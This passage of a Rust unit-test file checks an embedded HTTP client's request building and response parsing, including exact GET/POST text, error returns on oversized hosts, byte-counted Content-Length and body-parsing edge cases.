    assert!(request_string.contains("\r\n\r\n{\"id\":\"test-id\",\"current\":99}"));
}

#[test]
fn get_request_exact_text() {
    let req = get_request("h", Some("/p")).unwrap();
    assert_eq!(
        req,
        "GET /p HTTP/1.0\r\nHost: h\r\nUser-Agent: Uplink/0.1.0 (Platform; ESP32-C3)\r\nAccept: */*\r\n\r\n"
    );
}

#[test]
fn get_request_overflow_is_buffer_overflow() {
    let host = "h".repeat(200);
    assert_eq!(get_request(&host, None).unwrap_err(), HttpError::BufferOverflow);
}

#[test]
fn post_request_exact_text() {
    let req = post_request("h", Some("{}"), None).unwrap();
    assert_eq!(
        req,
        "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
    );
}

#[test]
fn post_request_without_payload() {
    let req = post_request("h", None, None).unwrap();
    assert_eq!(
        req,
        "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 0\r\n\r\n"
    );
}

#[test]
fn post_request_overflow_is_buffer_overflow() {
    let host = "h".repeat(600);
    assert_eq!(post_request(&host, None, None).unwrap_err(), HttpError::BufferOverflow);
}

#[test]
fn post_request_counts_bytes_not_characters() {
    let req = post_request("h", Some("\"é\""), None).unwrap();
    assert!(req.contains("Content-Length: 4\r\n"));
}

#[test]
fn parse_header_overflow_is_deserialization_error() {
    let raw = format!("HTTP/1.1 200 OK\r\nDate: {}\r\n\r\n", "D".repeat(33));
    assert_eq!(parse_response(&raw).unwrap_err(), HttpError::Deserialization);
}

#[test]
fn parse_header_after_blank_line_is_body() {
    let resp = parse_response("HTTP/1.1 200 OK\r\n\r\nDate: x\r\n").unwrap();
    assert!(resp.date.is_empty());
    assert_eq!(resp.body, "Date: x");
}

#[test]
fn parse_trailing_carriage_return_kept_on_last_line() {
    let resp = parse_response("HTTP/1.1 200 OK\r\n\r\nend\r").unwrap();
    assert_eq!(resp.body, "end\r");
}

#[test]
fn parse_empty_lines_in_body_are_kept() {
    let resp = parse_response("S\n\na\n\nb\n").unwrap();
    assert_eq!(resp.body, "a\n\nb");
}
